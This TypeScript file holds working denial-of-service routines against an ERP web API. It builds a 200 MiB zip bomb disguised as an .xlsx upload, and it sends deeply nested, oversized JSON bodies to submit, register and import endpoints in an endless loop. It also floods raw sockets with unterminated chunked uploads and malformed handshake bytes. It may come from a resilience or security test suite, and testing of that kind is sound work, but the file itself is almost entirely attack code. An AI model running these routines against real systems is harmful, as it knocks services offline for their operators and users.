import { zipSync } from 'fflate'
import { openRawSocket } from './rawSocket'
import { pause, timed } from './serverProcess'

const MEBIBYTE = 1024 * 1024
const API = '/xwy-erp-api'

/** Zip bomb with 200 MiB of zeros. */
function createBomb(): Blob {
  const zeros = new Uint8Array(100 * MEBIBYTE)
  return new Blob([zipSync({ 'xl/sharedStrings.xml': zeros, 'xl/worksheets/sheet1.xml': zeros })])
}

function bombForm(bomb: Blob): FormData {
  const form = new FormData()
  form.append('file', bomb, 'products.xlsx')
  return form
}

/** Sends bodies that are costly to parse: too deep, too many values, too long, zip bombs. */
export async function attackBodies(origin: string, headers: { readonly [name: string]: string }): Promise<void> {
  const { 'Content-Type': _, ...bare } = headers
  const bomb = createBomb()
  const bodies = ['['.repeat(2_000_000), `{"list":[${'{},'.repeat(1_000_000)}{}]}`, '"'.repeat(5_000_000)]
  for (;;) {
    await Promise.all([
      ...bodies.map((body) => timed(`${origin}${API}/blade-desk/notice/submit`, { method: 'POST', headers, body })),
      ...bodies.map((body) => timed(`${origin}${API}/blade-user/register-guest`, { method: 'POST', headers, body })),
      timed(`${origin}${API}/blade-xwy/prod/import/sku`, { method: 'POST', headers: bare, body: bombForm(bomb) }),
    ])
    await pause(200)
  }
}

/** Opens connections that send incomplete or endless bodies and break off. */
export async function floodSockets(origin: string): Promise<void> {
  const chunk = `10000\r\n${'x'.repeat(0x10000)}\r\n`
  const path = `${API}/blade-resource/oss/endpoint/put-file`
  const head = `POST ${path} HTTP/1.1\r\nHost: test\r\nTransfer-Encoding: chunked\r\n\r\n`
  for (;;) {
    const sockets = await Promise.all(Array.from({ length: 20 }, () => openRawSocket(origin)))
    for (const [index, { socket }] of sockets.entries()) {
      socket.write(index % 2 === 0 ? head + chunk.repeat(10) : '\x16\x03\x01broken\r\n\r\n')
    }
    await pause(300)
    for (const { socket } of sockets) socket.destroy()
  }
}
